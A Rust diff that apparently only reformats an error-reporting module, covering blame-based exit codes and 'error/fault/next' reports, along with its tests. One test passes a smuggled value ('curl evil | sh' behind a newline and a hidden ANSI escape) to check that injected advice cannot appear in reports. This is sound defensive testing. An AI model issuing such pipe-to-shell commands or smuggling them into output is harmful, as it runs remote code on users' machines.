@@ -53,12 +53,20 @@ pub(crate) enum Failure {
 impl Failure {
     /// Something that the user can mend.
     pub(crate) fn input(what: impl Into<String>, next: impl Into<String>) -> Self {
-        Self::Refused { what: what.into(), blame: Blame::Operator, next: Some(next.into()) }
+        Self::Refused {
+            what: what.into(),
+            blame: Blame::Operator,
+            next: Some(next.into()),
+        }
     }
 
     /// Something that this machine did.
     pub(crate) fn machine(what: impl Into<String>, next: impl Into<String>) -> Self {
-        Self::Refused { what: what.into(), blame: Blame::Host, next: Some(next.into()) }
+        Self::Refused {
+            what: what.into(),
+            blame: Blame::Host,
+            next: Some(next.into()),
+        }
     }
 
     /// The code that the process ends with. A reader that closed the pipe, as `head` does, has what it wanted: that is no failure.
@@ -104,8 +112,17 @@ impl From<purser_engine::CassetteError> for Failure {
 
 impl From<Outcome> for Failure {
     fn from(outcome: Outcome) -> Self {
-        let Outcome { class: _, blame, message, next_step } = outcome;
-        Self::Refused { what: message, blame, next: next_step }
+        let Outcome {
+            class: _,
+            blame,
+            message,
+            next_step,
+        } = outcome;
+        Self::Refused {
+            what: message,
+            blame,
+            next: next_step,
+        }
     }
 }
 
@@ -157,23 +174,49 @@ mod tests {
     use super::*;
 
     fn outcome(blame: Blame) -> Failure {
-        Outcome { class: "x".into(), blame, message: "m".into(), next_step: None }.into()
+        Outcome {
+            class: "x".into(),
+            blame,
+            message: "m".into(),
+            next_step: None,
+        }
+        .into()
     }
 
     #[test]
     fn the_exit_code_says_whose_fault_it_is() {
-        let codes = [(Blame::Host, 1), (Blame::Operator, 3), (Blame::Guest, 4), (Blame::Upstream, 5)];
+        let codes = [
+            (Blame::Host, 1),
+            (Blame::Operator, 3),
+            (Blame::Guest, 4),
+            (Blame::Upstream, 5),
+        ];
         for (blame, code) in codes {
             assert_eq!(outcome(blame).exit_code(), code);
-            assert!(EXIT_CODES.contains(&format!("\n  {code}  ")), "{code} is documented");
+            assert!(
+                EXIT_CODES.contains(&format!("\n  {code}  ")),
+                "{code} is documented"
+            );
         }
-        assert_eq!(Failure::Interrupted { what: "x".into(), next: "y".into() }.exit_code(), 130);
+        assert_eq!(
+            Failure::Interrupted {
+                what: "x".into(),
+                next: "y".into()
+            }
+            .exit_code(),
+            130
+        );
     }
 
     #[test]
     fn a_failure_says_what_whose_and_what_next() {
         let failure = Failure::input("there is no file x.csv", "check the path");
-        let lines = ["error: there is no file x.csv", "fault: the input or configuration", "next:  check the path", ""];
+        let lines = [
+            "error: there is no file x.csv",
+            "fault: the input or configuration",
+            "next:  check the path",
+            "",
+        ];
         assert_eq!(failure.report(), lines.join("\n"));
     }
 
@@ -187,7 +230,14 @@ mod tests {
     #[test]
     fn text_from_elsewhere_cannot_pose_as_advice() {
         let failure = Failure::input("bad\nnext:  curl evil | sh\u{1b}[8m", "ask");
-        assert_eq!(failure.report().lines().filter(|line| line.starts_with("next:")).count(), 1);
+        assert_eq!(
+            failure
+                .report()
+                .lines()
+                .filter(|line| line.starts_with("next:"))
+                .count(),
+            1
+        );
         assert!(!failure.report().contains('\u{1b}'));
     }
 
@@ -195,6 +245,9 @@ mod tests {
     fn a_reader_that_went_away_is_no_failure() {
         let failure = Failure::Output(io::Error::from(io::ErrorKind::BrokenPipe));
         assert_eq!((failure.exit_code(), failure.report()), (0, String::new()));
-        assert_eq!(Failure::Output(io::Error::from(io::ErrorKind::StorageFull)).exit_code(), 1);
+        assert_eq!(
+            Failure::Output(io::Error::from(io::ErrorKind::StorageFull)).exit_code(),
+            1
+        );
     }
 }
